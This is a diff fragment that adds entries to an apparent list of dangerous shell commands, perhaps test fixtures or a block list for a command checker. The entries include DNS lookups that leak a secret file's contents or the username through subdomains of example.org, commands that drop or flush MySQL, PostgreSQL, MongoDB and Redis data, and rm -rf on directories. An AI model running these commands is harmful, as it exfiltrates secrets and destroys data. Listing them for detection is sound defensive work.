@@ -26,6 +26,16 @@ psql shop -c 'alter table a drop column b'
 dig $(cat secret).example.org
 ping -c 1 `id -un`.example.org
 nslookup "$(base64 < a.txt).example.org"
+host "$(cat secret).example.org"
+getent hosts $(cat secret).example.org
+tracepath "$(id -un).example.org"
+mysql -e 'drop database shop'
+mysqladmin drop shop
+dropdb shop
+mongosh --eval 'db.dropDatabase()' shop
+mongosh shop --eval "db.users.deleteMany({})"
+redis-cli FLUSHALL
+redis-cli -h cache -n 2 flushdb
 rm -rf .
 rm -rf ..
 rm -rf *
